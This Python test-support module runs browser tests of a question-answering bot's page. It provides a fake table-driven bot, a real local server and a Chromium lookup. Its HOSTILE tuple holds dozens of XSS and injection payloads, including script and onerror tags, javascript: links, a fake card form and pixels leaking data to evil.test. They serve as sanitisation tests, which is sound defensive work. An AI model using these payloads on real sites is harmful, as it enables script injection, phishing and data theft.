"""What the tests of the page share: a bot that answers from a small table, a real server, a real Chromium."""

import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from time import monotonic, sleep
from typing import Any

import pytest
import uvicorn
from builders import WordEncoder

from bot.answers import Answers, unheard
from bot.catalogue import Entry
from bot.claims import DISAGREE, lead_line
from bot.encode import one_line
from bot.errors import AskError
from bot.key_figures import KeyFigure
from bot.permalink import Fate, Found, Link, permalink
from bot.types import EVERYTHING, Answer, Calculation, Citation, Conflict, Figure, Filters, Lead, Status, Turn
from bot.wrapped import Wrapped
from ingest.encoder import Vectors
from ingest.errors import IngestError
from ingest.settings import read_settings
from ingest.types import Document, Kind, Published, Source
from page.serving import configured

SPARK = Source(
    "press_releases/spark.md",
    "£1.2m investment to reinforce Stevenage campus as world-class cell and gene therapy hub",
    "Stevenage Bioscience Catalyst",
    Kind.PRESS_RELEASE,
    Published(2019, 11, 19),
    "https://www.biospace.com/1-2m-investment-to-reinforce-stevenage-campus",
)
ZONE = Source(
    "news/zone.md",
    "Stevenage named High Potential Opportunity zone for cell and gene therapy",
    "Mondaq",
    Kind.NEWS,
    Published(2020, 10),
    "https://www.mondaq.com/uk/life-sciences/995168/stevenage-named",
)
PARK = Source("fact_sheets/park.md", "About the park", None, Kind.FACT_SHEET, None, None)

COMPANIES = (
    "In autumn 2020 the campus had 45 companies and 1,000 jobs; 13 of the companies worked on cell and gene therapy."
)
CATALYST = "SBC opened in 2012 and had over 40 businesses and research bodies by November 2019."
LABS = "Laboratories range from single benches to whole floors."
RAISED = "Companies on the campus have raised over £1.6bn since 2012."
DISPUTED = "How much has been raised, and by how many?"
GROWN = "How did the number of companies grow?"
PLANNED = "Up to £350m of private investment is expected by 2030."


@dataclass
class TableBot:
    """Answers a question from a table, by its exact words; what it was asked with stays readable in ``asked``.

    A question that the table lacks is not found; a value that is an error is raised. "Echo" is answered with the
    talk so far and the filters.
    """

    table: dict[str, Answer | Exception]
    examples: tuple[str, ...] = ("How many companies are on the campus?", "Who will win the cup?")
    kinds: tuple[Kind, ...] = (Kind.PRESS_RELEASE, Kind.FACT_SHEET, Kind.NEWS)
    years: tuple[int, int] | None = (2017, 2024)
    asked: list[tuple[str, tuple[Turn, ...], Filters]] = field(default_factory=list)
    suggested: tuple[str, ...] = ()

    def look_up(self, link: Link) -> Found | None:
        """It remembers a quote of one document, and that another, named by its reason, was withdrawn."""
        if link.document == SPARK.id:
            said, card = "This document has been superseded by a corrected one.", cite(1, SPARK, CATALYST)
            return Found(Fate.SUPERSEDED, SPARK, said, card, ZONE)
        if link.document.startswith("withdrawn"):
            source = replace(PARK, title=link.document, publisher=link.document, url=link.document)
            return Found(Fate.WITHDRAWN, source, link.document, None, source)
        if link.document == "broken":
            raise IngestError("secret words")
        return None

    def sources(self, filters: Filters = EVERYTHING) -> tuple[Source, ...]:
        """Three cards."""
        return tuple(source for source in (ZONE, SPARK, PARK) if filters.allow(source))

    def suggestions(self, answer: Answer, asked: Sequence[str] = (), filters: Filters = EVERYTHING) -> tuple[str, ...]:
        """Those that the test has set."""
        return tuple(question for question in self.suggested if question not in asked)

    def questions_of(self, document_id: str, look: bool = True) -> tuple[str, ...]:
        """Those that the test has set."""
        return self.suggested if look else ()

    def catalogue(self) -> tuple[Entry, ...]:
        """Three documents, of which one has been corrected and one withdrawn; and one for each hostile text, if any."""
        if HOSTILE[0] in self.table:
            hostile = (Source(text, text, text, Kind.NEWS, None, text) for text in HOSTILE)
            return tuple(
                Entry(Document(source, f"{source.title} £5m"), (source,), source.title, source) for source in hostile
            )
        return (
            Entry(Document(ZONE, COMPANIES), (SPARK,)),
            Entry(Document(SPARK, CATALYST), said="Superseded by a corrected document.", successor=ZONE),
            Entry(Document(PARK, ""), said="Withdrawn on 1 May 2026: a wrong figure"),
        )

    def key_figures(self) -> tuple[tuple[KeyFigure, Answer], ...]:
        """Each question of the table that has an answer, whatever it holds, under its own words."""
        return tuple(
            (KeyFigure(asked, asked), found) for asked, found in self.table.items() if isinstance(found, Answer)
        )

    def document(self, id_: str, filters: Filters = EVERYTHING) -> Document | None:
        """One of three documents, whose text is what is quoted of it."""
        texts = {ZONE.id: COMPANIES, SPARK.id: CATALYST, PARK.id: LABS}
        found = next((source for source in self.sources(filters) if source.id == id_), None)
        return Document(found, texts[id_]) if found else None

    def forget(self) -> None:
        """Nothing is kept."""

    def meanings(self, texts: Sequence[str]) -> Vectors:
        """What shares words is near."""
        return WordEncoder().encode(texts)

    def ask(
        self,
        question: str,
        history: Sequence[Turn] = (),
        filters: Filters = EVERYTHING,
        told: Callable[[str], None] = unheard,
        said: Callable[[str], None] = unheard,
        site: str = "",
    ) -> Answer:
        """Look the question up."""
        for stage in ("retrieve", "read"):
            told(stage)
        self.asked.append((question, tuple(history), filters))
        if not question.strip():
            raise AskError("Please type a question.")
        found = echoed(history, filters) if question == "Echo" else self.table.get(question, not_found(question))
        if isinstance(found, Exception):
            raise found
        return replace(found, known_by=filters.until.isoformat()) if filters.until else found


def cite(number: int, source: Source, quote: str, before: str = "", after: str = "") -> Citation:
    """A citation of a quote that stands at the beginning of its document."""
    start = len(before)
    return Citation(number, source, quote, start, start + len(quote), "g1", before, after)


def answered(question: str, *citations: Citation, answer_id: str = "a1") -> Answer:
    """An answer that quotes the citations in order."""
    text = "\n".join(f"{citation.quote} [{citation.number}]" for citation in citations)
    return Answer(answer_id, question, question, Status.ANSWERED, text, "g1", citations=citations)


def disputed(question: str) -> Answer:
    """An answer with all there is: two short answers, quotes, a calculation, a conflict, figures, what is missing."""
    one, two, three = cite(1, ZONE, RAISED, before="On money. "), cite(2, SPARK, CATALYST), cite(3, PARK, PLANNED)
    leads = (Lead("over £1.6bn", "October 2020", 1), Lead("over 40 businesses and research bodies", "November 2019", 2))
    calculation = Calculation("£1.6bn − £350m = £1.25bn [1][3]", (1, 3))
    lines = (
        *map(lead_line, leads),
        *(f"{citation.quote} [{citation.number}]" for citation in (one, two, three)),
        calculation.text,
        f"{DISAGREE}: over £1.6bn [1]; £1.1bn [2].",
        "What was raised in 2025 is not in the documents.",
    )
    return Answer(
        "d1",
        question,
        question,
        Status.ANSWERED,
        "\n".join(lines),
        "g1",
        citations=(one, two, three),
        leads=leads,
        figures=(
            Figure(1.6e9, "GBP", "£1.6bn", "campus", "2020-10", "achieved", 1, "over"),
            Figure(1.1e9, "GBP", "£1.1bn", "campus", "2020-10-07", "achieved", 2),
            Figure(40.0, "businesses", "40 businesses and research bodies", "campus", "2019-11", "achieved", 2, "over"),
            Figure(3.5e8, "GBP", "£350m", None, None, "planned", 3, "up to"),
        ),
        calculations=(calculation,),
        conflicts=(Conflict((0, 1), "same scope and time, different values: £1.1bn and over £1.6bn"),),
    )


def grown(question: str) -> Answer:
    """An answer with two values of one thing, of two times."""
    figures = (
        Figure(40.0, "businesses", "40 businesses", "campus", "2019-11", "achieved", 1, "over"),
        Figure(45.0, "companies", "45 companies", "campus", "2020-10", "achieved", 2),
    )
    found = answered(question, cite(1, SPARK, CATALYST), cite(2, ZONE, COMPANIES), answer_id="g2")
    return replace(found, figures=figures, history=(0, 1))


def not_found(question: str, *nearest: Citation) -> Answer:
    """The honest answer when the documents do not say."""
    text = "The documents do not answer that."
    return Answer("n1", question, question, Status.NOT_FOUND, text, "g1", nearest=nearest)


def echoed(history: Sequence[Turn], filters: Filters) -> Answer:
    """What the bot was asked with, in words."""
    kinds = ",".join(sorted(filters.kinds or ()))
    said = f"kinds={kinds} since={filters.since} until={filters.until} turns={len(history)}"
    return Answer("e1", "Echo", "Echo", Status.OUT_OF_SCOPE, said, "g1")


def campus_bot() -> TableBot:
    """A bot that knows three documents on the campus."""
    companies, cup = TableBot({}).examples
    zone = cite(
        1,
        ZONE,
        COMPANIES,
        before="A government department has made the town a High Potential Opportunity zone. ",
        after=" A year earlier another award had gone to the campus, for advanced therapies. Funds raised by its "
        "occupiers stood at over £1.6bn then, of which two thirds belonged to companies in cell and gene therapy. A "
        "manufacturing centre stands beside their laboratories, and a training centre is planned for the people who "
        "will work there. The nominating body expects investors from abroad to follow, and so do the occupiers.",
    )
    spark = cite(2, SPARK, CATALYST, before="Notes to editors.\n\n", after=" It has been funded by partners.")
    park = cite(3, PARK, LABS)
    nearest = (cite(1, SPARK, CATALYST), cite(2, PARK, LABS))
    return TableBot(
        {
            companies: answered(companies, zone, spark, park),
            cup: not_found(cup, *nearest),
            "And in Stevenage?": answered("And in Stevenage?", cite(1, SPARK, CATALYST), answer_id="a2"),
            DISPUTED: disputed(DISPUTED),
            GROWN: grown(GROWN),
            "Break": RuntimeError("secret words"),
        }
    )


class Remembering(TableBot):
    """A bot that finds every quote of its table again; of some documents it says what has become."""

    def __init__(self, *answers: Answer, **fates: Fate) -> None:
        super().__init__({answer.question: answer for answer in answers})
        self._cited = {permalink(one): one for answer in answers for one in (*answer.citations, *answer.nearest)}
        self._fates = fates

    def look_up(self, link: Link) -> Found | None:
        """What the table has in that place."""
        place = permalink(
            Citation(0, replace(SPARK, id=link.document), "", link.start, link.end, "", version=link.version)
        )
        cited = self._cited.get(place)
        if cited is None:
            return None
        fate = self._fates.get(cited.source.id.partition("/")[0], Fate.CURRENT)
        said = f"It is {fate}."
        return Found(fate, cited.source, said, None if fate is Fate.WITHDRAWN else cited)


def remembering_bot() -> Remembering:
    """The bot that knows the campus, and finds all that it quotes again."""
    table = campus_bot().table
    return Remembering(*(answer for answer in table.values() if isinstance(answer, Answer)))


def late_bot() -> TableBot:
    """The same, but each answer takes so long that a test can come between."""
    return slow_bot(4.0)


def slow_bot(seconds: float = 0.25) -> TableBot:
    """The same, but each answer takes a quarter of a second."""

    class SlowBot(TableBot):
        def ask(
            self,
            question: str,
            history: Sequence[Turn] = (),
            filters: Filters = EVERYTHING,
            told: Callable[[str], None] = unheard,
            said: Callable[[str], None] = unheard,
            site: str = "",
        ) -> Answer:
            sleep(seconds)
            return super().ask(question, history, filters, told, said, site)

    return SlowBot(campus_bot().table)


# What a document, its title, its publisher, its address or a visitor's question may hold. Whatever ran would set
# window.__pwned; whatever was fetched would leave this machine.
HOSTILE = (
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<img src=https://evil.test/pixel.png>",
    "![pixel](https://evil.test/p.png?q=secret)",
    "![pixel][ref]\n\n[ref]: https://evil.test/p.png",
    "<svg onload=window.__pwned=1><circle r=9 /></svg>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><a xlink:href='javascript:window.__pwned=1'><text y=9>go</text></a></svg>",
    "<video src=https://evil.test/v.mp4 autoplay></video>",
    "<audio src=https://evil.test/a.mp3 autoplay onerror=window.__pwned=1></audio>",
    "<picture><source srcset=https://evil.test/s.webp><img src=x></picture>",
    "<iframe src=https://evil.test/></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<object data=https://evil.test/o.swf></object>",
    "<embed src=https://evil.test/e.swf>",
    "<form action=https://evil.test/><input name=card autofocus><button>Pay</button></form>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1><summary>more</summary></details>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>Pay here</div>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<body onload=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>news</marquee>",
    "<a href='javascript:window.__pwned=1'>open</a>",
    "[open](javascript:window.__pwned=1)",
    "[open](data:text/html,<script>opener.__pwned=1</script>)",
    "[open](vbscript:msgbox)",
    "[open](file:///etc/passwd)",
    "[SBC](https://evil.test/login) says so",
    "[open][x]\n\n[x]: javascript:window.__pwned=1",
    "<javascript:window.__pwned=1>",
    "<https://evil.test/autolink>",
    "See https://evil.test/bare and www.evil.test or mail@evil.test",
    "javascript:window.__pwned=1",
    "&lt;img src=x onerror=window.__pwned=1&gt; &#60;b&#62; &amp;lt;",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.__pwned=1>]-->B\n```",
    "$$\\href{javascript:window.__pwned=1}{x}$$ and $x^2$ and \\(y\\) and \\[z\\]",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'></noscript>",
    "</mark></blockquote></section><img src=x onerror=window.__pwned=1><!--",
    "\" onmouseover=window.__pwned=1 x=\" ' onfocus='window.__pwned=1",
    "# Heading\n\n- list\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n    code\n\n**bold** ~~gone~~ ***",
    "${window.__pwned=1} {{constructor.constructor('window.__pwned=1')()}} {%raw%} <%= 7*7 %>",
    "<thinking>hidden</thinking> <custom-tag>kept</custom-tag> <textarea></textarea><!-- gone -->",
    "1. one\n2. two\n\n--- \n\n[^1]: note \n\n- [x] done :smile: H~2~O x^2^ ==mark==",
)


def suggesting_bot() -> TableBot:
    """Answers one question, and suggests three others whatever was asked."""
    return replace(
        campus_bot(), suggested=("Who will win the cup?", "What <b>is</b> [it](javascript:1)?", "Who runs it?")
    )


def pondering_bot() -> TableBot:
    """The same, but it takes a second to find what to suggest."""

    class Pondering(TableBot):
        def suggestions(
            self, answer: Answer, asked: Sequence[str] = (), filters: Filters = EVERYTHING
        ) -> tuple[str, ...]:
            sleep(1)
            return super().suggestions(answer, asked, filters)

    return Pondering(campus_bot().table, suggested=suggesting_bot().suggested)


def hostile_bot() -> TableBot:
    """A bot whose documents are hostile: asked with a text, it cites a source that holds nothing but that text."""
    return TableBot({text: _hostile(text) for text in HOSTILE})


def _hostile(text: str) -> Answer:
    """The text in every place that an answer has."""
    source = Source(text, text, text, Kind.NEWS, None, text)
    citation = cite(1, source, text, before=f"{text} ", after=f" {text}")
    lead, calculation = Lead(text, "undated", 1), Calculation(f"{text} = 0 [1]", (1,))
    disagreement = f"{DISAGREE}: {one_line(text)} [1]; {one_line(text)} [1]."
    figure = Figure(0.0, text, text, text, text, "achieved", 1)
    return Answer(
        f"a{text.encode().hex()}",  # a chip and its card are one by the answer's id
        text,
        text,
        Status.ANSWERED,
        "\n".join((lead_line(lead), f"{text} [1]", one_line(calculation.text), disagreement)),
        "g1",
        citations=(citation,),
        leads=(lead,),
        figures=(figure, figure),
        calculations=(calculation,),
        conflicts=(Conflict((0, 1), text),),
    )


def chromium() -> str:
    """The path of a Chromium, or a skipped test; with CLUSTER_REQUIRE_BROWSER=1 a failed one."""
    path = os.environ.get("CLUSTER_CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome")
    if path is not None:
        return path
    reason = "no Chromium on this machine: apt-get install chromium, or name one in CLUSTER_CHROMIUM"
    if os.environ.get("CLUSTER_REQUIRE_BROWSER") == "1":
        pytest.fail(reason)
    pytest.skip(reason)


@contextmanager
def served(app: Any, port: int = 0) -> Iterator[str]:
    """The address of a real server for an application, on a free port or that one, until the block ends."""
    with socket.socket() as free:
        free.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        free.bind(("127.0.0.1", port))
        configuration = configured(app, level="error")
        configuration.timeout_graceful_shutdown = 1
        server = uvicorn.Server(configuration)
        thread = threading.Thread(target=server.run, kwargs={"sockets": [free]}, daemon=True)
        thread.start()
        _wait_until(lambda: server.started)
        try:
            yield f"http://127.0.0.1:{free.getsockname()[1]}"
        finally:
            server.should_exit = True
            thread.join(10)


@contextmanager
def served_page(bot: str, folder: Path, port: str = "0", **settings: str) -> Iterator[str]:
    """The address of the page before a bot of this module, named by its function; votes and log go to the folder.

    ``settings`` are variables of its environment. Its file of sites is `sites.toml` in the folder, if there is one.

    In a process of its own: Gradio leaves event loops open, which this one's tests would have to answer for.
    """
    tests = Path(__file__).parent
    code = f"import sys, browser; browser.serve_page(browser.{bot}(), sys.argv[1], int(sys.argv[2]))"
    (folder / "address.txt").unlink(missing_ok=True)  # of a server before
    paths = os.pathsep.join([str(tests.parent), str(tests), os.environ.get("PYTHONPATH", "")])
    with (folder / "log.txt").open("wb") as log:
        server = subprocess.Popen(
            [sys.executable, "-c", code, str(folder), port],
            stdout=log,
            stderr=log,
            cwd=folder,
            env=os.environ | {"PYTHONPATH": paths, "CLUSTER_LIMIT_PER_MINUTE": "100000"} | settings,
        )
    try:
        _wait_until(lambda: (folder / "address.txt").exists() or server.poll() is not None)
        assert server.poll() is None, (folder / "log.txt").read_text()
        yield (folder / "address.txt").read_text()
    finally:
        server.terminate()
        server.wait(20)


def store_bot() -> Answers:
    """The bot over the store that the environment names."""
    from bot.ask import open_bot

    return open_bot(read_settings())


def held_store_bot() -> Answers:
    """The same, but as it begins to read for an answer it leaves a file `reading`, and waits for another, `go`."""

    class Held(Wrapped):
        def ask(
            self,
            question: str,
            history: Sequence[Turn] = (),
            filters: Filters = EVERYTHING,
            told: Callable[[str], None] = unheard,
            said: Callable[[str], None] = unheard,
            site: str = "",
        ) -> Answer:
            def held(stage: str) -> None:
                told(stage)
                if stage == "read":
                    Path("reading").touch()
                    _wait_until(Path("go").exists)

            return super().ask(question, history, filters, held, said, site)

    return Held(store_bot())


def serve_page(bot: Answers, folder: str, port: int = 0) -> None:
    """Serve the page until this process is told to end; its address stands in the folder once it answers."""
    import ui
    from bot.feedback import Feedback
    from page.shares import Shares

    settings = read_settings()
    shares = Shares(Path(folder) / "shared", settings.shared_days)
    with served(ui.build_app(bot, Feedback(Path(folder)), settings, shares), port) as address:
        (Path(folder) / "address.part").write_text(address)
        (Path(folder) / "address.part").rename(Path(folder) / "address.txt")
        threading.Event().wait()


def _wait_until(happened: Any, seconds: float = 60) -> None:
    end = monotonic() + seconds
    while not happened():
        assert monotonic() < end, f"no server within {seconds:.0f} s"
        sleep(0.02)
